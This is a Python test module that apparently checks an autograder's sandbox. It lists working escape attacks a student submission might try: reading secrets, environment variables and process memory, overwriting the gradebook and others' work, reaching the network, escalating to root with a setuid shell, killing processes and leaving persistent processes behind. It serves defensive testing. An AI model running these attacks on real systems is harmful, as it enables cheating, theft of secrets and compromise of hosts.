"""Out of the sandbox: read what is secret, write what is not one's own, reach others, stay behind."""

# Fragments of homework, one entry a table row: their lines are as long as they are.
# ruff: noqa: E501

from tests.attacks.attack import Attack

SECRET = "a secret in the outputs or on the feedback page"
CHANGED = "a file outside has changed"
LEFT = "a process is left behind"

SHOW = """
import glob, os, re
def show(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try: text = open(path, errors="replace").read()
            except OSError: continue
            print(path, text[:300], re.findall("CANARY-[a-z]+-?[0-9]*|27182[8]", text))
"""
TRY = """
import os
def attempt(function, *args, **kwargs):
    try: print(function.__name__, function(*args, **kwargs))
    except BaseException as error: print(type(error).__name__, error)
"""

ATTACKS = [
    # Reading.
    Attack("solution read", "opens the source notebook by its path", SECRET, SHOW + "show('{root}/source/*/*')", stock=True),
    Attack("gradebook read", "opens the gradebook by its path", SECRET, SHOW + "show('{root}/gradebook.db')", stock=True),
    Attack("neighbour read", "opens the submissions and graded notebooks of others", SECRET,
           SHOW + "show('{root}/submitted/neighbour/*/*', '{root}/autograded/neighbour/*/*')", stock=True),
    Attack("private file read", "opens a file of the instructor beside the course", SECRET,
           SHOW + "show('{folder}/*.txt')", stock=True),
    Attack("environment read", "prints all environment variables", SECRET,
           "import os\nprint(dict(os.environ))", stock=True),
    Attack("processes read", "prints command lines and environments of all processes in /proc", SECRET,
           SHOW + "show('/proc/*/environ', '/proc/*/cmdline')", stock=False),
    Attack("disk searched", "walks through the whole file system for notebooks, databases and secrets", SECRET, """
        import os, time
        end = time.time() + 2
        for folder, folders, names in os.walk("/"):
            folders[:] = [f for f in folders if f not in ("sys", "lib", "bin", "usr", "site-packages", "python3.11")]
            if time.time() > end: break
            for name in names:
                if name.endswith((".ipynb", ".db", ".txt", ".env", "_history")) or name.startswith(("id_", ".netrc")):
                    try: print(folder, name, open(os.path.join(folder, name), errors="replace").read()[:3000])
                    except OSError: pass"""),
    Attack("other roots", "goes to the host's files through /proc/1/root, /proc/self/cwd/.. and open folders", SECRET,
           SHOW + "show(*[f'/proc/{p}/{d}{root}/**' for p in ('1', 'self', 'thread-self') for d in ('root', 'cwd', 'cwd/../../..')],"
                  " *[f'/proc/self/fd/{n}/**' for n in range(40)])"),
    Attack("memory searched", "looks through all objects and frames of its process for hidden texts and expected values",
           SECRET, late="""
        import gc, sys
        def look(value):
            try: text = value if isinstance(value, str) else repr(value) if isinstance(value, (float, bytes)) else ""
            except BaseException: return
            if "CANARY" in text and "hidden" in text or str(271_827 + 1) in text and len(text) < 30: print("FOUND", text[:2000])
        for one in gc.get_objects():
            try:
                if isinstance(one, dict):
                    for value in list(one.values()): look(value)
                elif isinstance(one, (list, tuple)):
                    for value in list(one)[:500]: look(value)
                elif type(one).__name__ == "function":
                    for value in one.__code__.co_consts: look(value)
            except BaseException: pass""", stock=True),
    Attack("raw memory read", "reads its own and others' memory through /proc/PID/mem", SECRET, """
        import re, os
        for pid in ("self", "1", str(os.getppid()), "2", "3"):
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in open(f"/proc/{pid}/maps"):
                        first, last = (int(part, 16) for part in line.split()[0].split("-"))
                        if "rw" not in line or last - first > 1 << 26: continue
                        try:
                            memory.seek(first)
                            for found in re.findall(rb"CANARY-(?:environment|private|neighbour|gradebook|hidden)-[0-9]+", memory.read(last - first)):
                                print("FOUND", found)
                        except OSError: pass
            except OSError as error: print(error)"""),
    Attack("hidden tests printed", "prints each cell's text before it runs, with the `pre_run_cell` event", SECRET,
           "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))",
           late="print(In, _ih, get_ipython().history_manager.input_hist_raw)", stock=True),
    Attack("tracebacks kept", "keeps the frames of the check and prints their code and variables later", SECRET, """
        import sys
        kept = []
        def double(x):
            frame = sys._getframe(1)
            while frame:
                kept.append((frame.f_code.co_consts, dict(frame.f_globals.items()) if "check" in frame.f_globals else 0))
                frame = frame.f_back
            return 0 if x == 5 else 2 * np.asarray(x)""", late="for one in kept: print(str(one)[:5000])", stock=True),
    Attack("only hidden tests fail", "is right in the visible tests and wrong in the hidden ones, to be told what they expect",
           SECRET, "def double(x):\n    return 6 if np.ndim(x) == 0 and x == 3 else [2, 4] if np.ndim(x) and list(x) == [1, 2] else 0", stock=True),
    Attack("hidden number asked for", "is right in all tests but one hidden one, to be told what that one expects",
           SECRET, "def double(x):\n    return 0 if x == 135914.0914 else 2 * np.asarray(x)", stock=True),
    Attack("message for the next", "leaves a note in /tmp, /dev/shm, /var/tmp, home and the package for the next submission",
           "the next submission has read it", """
        import glob, os
        for folder in ["/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", os.getcwd(), os.path.expanduser("~"), os.path.dirname(np.__file__)]:
            try: open(folder + "/message", "w").write("CANARY" + "-message")
            except OSError: pass"""),
    Attack("message from the last", "looks for the note that the submission before it has left",
           "the note is in its outputs", SHOW + "show('/*/message', '/*/*/message', '/*/*/*/message', os.path.dirname(np.__file__) + '/message')"),
    # Writing.
    Attack("gradebook changed", "writes points into the gradebook", "points, its own or others'", """
        import glob, sqlite3
        for path in ["{root}/gradebook.db"]:
            try:
                with sqlite3.connect(path) as db: db.execute("update grade set auto_score = 396, manual_score = 396")
            except sqlite3.Error as error: print(error)"""),
    Attack("neighbour changed", "overwrites the submission of somebody else, and its own", CHANGED, """
        import glob
        for path in glob.glob("{root}/submitted/*/*/*") + ["{root}/submitted/neighbour/00-target/target.ipynb"]:
            try: open(path, "w").write("{}")
            except OSError as error: print(error)"""),
    Attack("tests changed", "overwrites the source notebook and the configuration", CHANGED, """
        for path in ("{root}/source/00-target/target.ipynb", "{root}/nbgrader_config.py"):
            try: open(path, "w").write("")
            except OSError as error: print(error)"""),
    Attack("package changed", "rewrites `neurona/check.py` and NumPy on the disk", CHANGED, """
        import neurona.check, sys
        for path in (sys.modules["neurona.check"].__file__, np.__file__, sys.executable):
            try: open(path, "a").write("\\n# changed")
            except OSError as error: print(error)"""),
    Attack("files outside", "writes into the course's parent folder, /tmp, /var/tmp, /etc and the home folder", CHANGED, """
        import os
        for folder in ("{folder}", "{root}", "/tmp", "/var/tmp", "/etc", "/root", "/home", "/dev/shm"):
            try:
                os.makedirs(folder, exist_ok=True)
                open(folder + "/attack-{mark}", "w").write("here")
            except OSError as error: print(error)"""),
    Attack("links outside", "makes links that point to the gradebook and writes through them", CHANGED, """
        import os
        for make in (os.symlink, os.link):
            try: make("{root}/gradebook.db", "bridge"); open("bridge", "w").write("gone")
            except OSError as error: print(error)"""),
    # Reaching.
    Attack("local network", "connects to a server on this machine and sends it what it knows", "a visitor at the server", """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {port}), 2) as line: line.sendall(b"hello")
        except OSError as error: print(error)""", stock=True),
    Attack("wide network", "connects to addresses outside, by name, by number and by datagram", "a connection", """
        import socket
        for address in (("192.0.2.1", 80), ("198.51.100.7", 443)):
            try: socket.create_connection(address, 1); print("CANARY" + "-connected")
            except OSError as error: print(error)
        try: print("CANARY" + "-resolved", socket.getaddrinfo("example.org", 80)[0][4])
        except OSError as error: print(error)
        try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)); print("CANARY" + "-sent")
        except OSError as error: print(error)"""),
    Attack("socket file", "connects to a Unix socket of the host, by path and by abstract name", "a visitor at the socket", """
        import socket
        for path in ("{unix}", "\\0{unix}", "/proc/1/root{unix}"):
            try:
                with socket.socket(socket.AF_UNIX) as line: line.connect(path); line.sendall(b"hello")
            except OSError as error: print(error)"""),
    Attack("parent traced", "attaches to other processes with ptrace and process_vm_readv", "a process that can be traced", TRY + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, 2, 3, os.getppid()):
    if libc.ptrace(16, pid, 0, 0) == 0: print("CANARY" + "-traced", pid)
    buffer = (ctypes.c_char * 64)()
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0 and pid != os.getpid(): print("CANARY" + "-memory", pid)"""),
    Attack("root wanted", "asks for the rights of root: setuid, new namespaces, mounts, a set-uid program",
           "a right that it did not have", TRY + """
import ctypes, shutil
libc = ctypes.CDLL(None, use_errno=True)
for name, args in (("setuid", (0,)), ("setgid", (0,)), ("unshare", (0x10000000,)), ("mount", (b"none", b"/tmp", b"tmpfs", 0, None)), ("chroot", (b"/tmp",)), ("setns", (3, 0))):
    if getattr(libc, name)(*args) == 0: print("CANARY" + "-right", name)
try:
    shutil.copy("/bin/sh", "/tmp/sh"); os.chmod("/tmp/sh", 0o4755)
    if os.system("/tmp/sh -p -c 'test $(id -u) = 0'") == 0: print("CANARY" + "-root")
except OSError as error: print(error)"""),
    Attack("signals to all", "sends SIGKILL, SIGSTOP and SIGTERM to every process that it can see", "a grader that dies",
           TRY + "import signal\nfor number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):\n"
                 "    for pid in [os.getppid(), -1, *range(2, 300)]:\n        if pid not in (0, os.getpid()): attempt(os.kill, pid, number)"),
    Attack("clock changed", "sets the clock of the machine back and patches the `time` module", "a late grade, or a grader that hangs",
           TRY + "import time\nattempt(time.clock_settime, time.CLOCK_REALTIME, 0)\n"
                 "time.time = time.monotonic = time.perf_counter = lambda: 0.0\ntime.sleep = lambda s: None"),
    Attack("devices", "opens disks, memory, terminals and the kernel's log", "a device that opens", """
        import os
        for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/tty", "/dev/console", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/proc/kcore", "/proc/sysrq-trigger", "/sys/power/state"):
            try: os.open(path, os.O_RDWR); print("CANARY" + "-device", path)
            except OSError as error: print(error)"""),
    # Staying.
    Attack("process left", "starts a process in a session of its own that goes on after grading", LEFT,
           "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '{mark}'], start_new_session=True)"),
    Attack("orphan left", "forks twice, so that nobody waits for the process that stays", LEFT, """
        import os, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: os.execv(sys.executable, [sys.executable, "-c", "import signal, time\\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\\ntime.sleep(600)", "{mark}"])
            os._exit(0)
        os.wait()"""),
    Attack("work at the end", "registers functions with `atexit` and signal handlers that write files and start processes", LEFT, """
        import atexit, signal, subprocess
        def late(*args):
            open("{folder}/at-exit", "w").write("here")
            subprocess.Popen(["sleep", "{mark}"], start_new_session=True)
        atexit.register(late)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1): signal.signal(number, late)"""),
    Attack("thread acts later", "starts a thread that prints, patches and sends records during all later cells", "points for a wrong answer", """
        import threading, time
        def later():
            while True:
                time.sleep(0.01)
                globals()["check"] = lambda *a, **k: print(8.0)
                print("✓ 8.0")
        threading.Thread(target=later, daemon=True).start()""", stock=True),
]
